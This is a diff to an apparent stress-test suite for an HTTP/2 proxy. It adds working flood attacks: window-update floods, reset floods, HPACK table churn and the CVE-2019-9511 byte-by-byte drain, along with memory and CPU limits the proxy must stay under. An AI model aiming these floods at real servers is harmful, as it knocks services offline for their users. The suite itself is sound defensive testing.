@@ -597,6 +597,39 @@ def priorities(connection):
     return f"{connection.sent // 14} frames"
 
 
+def window_updates(connection):
+    """Windows that grow by a byte each time."""
+    for _ in range(500):
+        if not connection.send(frame(WINDOW_UPDATE, payload=b"\0\0\0\1") * 1000):
+            break
+    return f"{connection.sent // 13} frames"
+
+
+def resets(connection):
+    """Resets of a stream that has ended, hyperium/h2#935."""
+    connection.post(1, b"reset")
+    connection.answered(1)
+    for _ in range(500):
+        if not connection.send(frame(RST_STREAM, 0, 1, b"\0\0\0\x08") * 1000):
+            break
+    return f"{connection.sent // 13} frames"
+
+
+def table_churn(connection):
+    """Requests whose fields throw each other out of the dynamic table, and whose settings and updates resize it."""
+    big = b"".join(b"\x40\x01" + name + b"\x7f\x81\x1e" + b"b" * 3968 for name in (b"a", b"b", b"c"))
+    stream = 1
+    for _ in range(400):
+        data = frame(SETTINGS, payload=setting(1, 0) + setting(1, 4096))
+        head = b"\x20\x3f\xe1\x1f" + block(request("/version/v1/nowhere", method="GET")) + big
+        if not connection.send(data + frame(HEADERS, END_HEADERS | END_STREAM, stream, head)):
+            break
+        stream += 2
+        if not connection.answered(stream - 2):
+            break
+    return f"{stream // 2} requests"
+
+
 def header_bomb(connection):
     """CVE-2016-6581: one large field in the dynamic table, referenced repeatedly by one byte each."""
     big = b"\x40\x03foo" + b"\x7f\x81\x1e" + b"b" * 4000
@@ -623,6 +656,16 @@ def window_stall(connection):
     return "99 answers stalled on each"
 
 
+def dribble(connection):
+    """CVE-2019-9511: answers that are taken byte by byte."""
+    window_stall(connection)
+    one = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 199, 2))
+    for _ in range(300):
+        if not connection.send(one):
+            break
+    return f"99 answers byte by byte on each, {connection.sent // 13} windows at most"
+
+
 def half_requests(connection):
     """Bodies that never end, on all streams that there may be."""
     head = block(request("/version/v1/diagnosis-keys", ("cwa-fake", "0")))
@@ -639,8 +682,9 @@ def half_requests(connection):
 FLOODS = [
     (rapid_reset, {}, False), (made_reset, {}, False), (continuation, {}, False), (empty_continuation, {}, False),
     (settings, {"receive_buffer": 4096}, False), (pings, {"receive_buffer": 4096}, False), (empty_data, {}, False),
-    (priorities, {}, False), (header_bomb, {}, False), (window_stall, {"settings": setting(4, 0)}, True),
-    (half_requests, {}, True),
+    (priorities, {}, False), (window_updates, {}, False), (resets, {}, False), (table_churn, {}, False),
+    (header_bomb, {}, False), (dribble, {"settings": setting(4, 0)}, False),
+    (window_stall, {"settings": setting(4, 0)}, True), (half_requests, {}, True),
 ]  # fmt: skip
 
 
@@ -708,6 +752,8 @@ def attack(flood, options, held, port, suite, seconds):
 # The most that the proxy may grow by in a flood. Measured are 15 MiB where 4,000 requests are held, with connections to
 # the services, and less elsewhere; the careless server takes 180, or 120 where the machine has more to do.
 ALLOWED_GROWTH = 48 << 20
+# What one connection may cost, in seconds of a core: handshake, flood, and the others' requests meanwhile.
+ALLOWED_CPU = 0.5
 
 
 def run_flood(report, suite, upstream, flood, options, held):
@@ -718,17 +764,22 @@ def run_flood(report, suite, upstream, flood, options, held):
         # What every process grows by at first isn't counted.
         with Witness(proxy.port, http1, http2, pause=0.01):
             time.sleep(0.5)
+        used = proxy.cpu
         with proxy.growth() as growth, Witness(proxy.port, http1, http2) as witness:
             made, words, end = attack(flood, options, held, proxy.port, suite, 20 if suite.long else 2)
             time.sleep(0.3)
+        each = (proxy.cpu - used) / max(made, 1)
         report.require(proxy.is_running, f"{name}: the proxy's process has ended")
         for text in proxy.errors():
             report.require(False, text)
     # Where memory is all that an attacker takes, the proxy may turn others away, but soon.
     others = witness.verdict(report, name, 5, may_be_shed=held)
     report.require(growth.most < ALLOWED_GROWTH, f"{name}: the proxy grows by {mebibytes(growth.most)}")
+    report.require(each < ALLOWED_CPU, f"{name}: a connection costs {each * 1000:.0f} ms of a core")
     report.require(end not in ("hangs", "fails"), f"{name}: the attacker {end}")
-    report.say(f"{name}: {made} connections, {words}; {end}; grown by {mebibytes(growth.most)}; {others}")
+    report.say(
+        f"{name}: {made} connections, {words}; {end}; {each * 1000:.0f} ms of a core each, grown by {mebibytes(growth.most)}; {others}"
+    )
 
 
 def plain_load(report, suite, proxy):
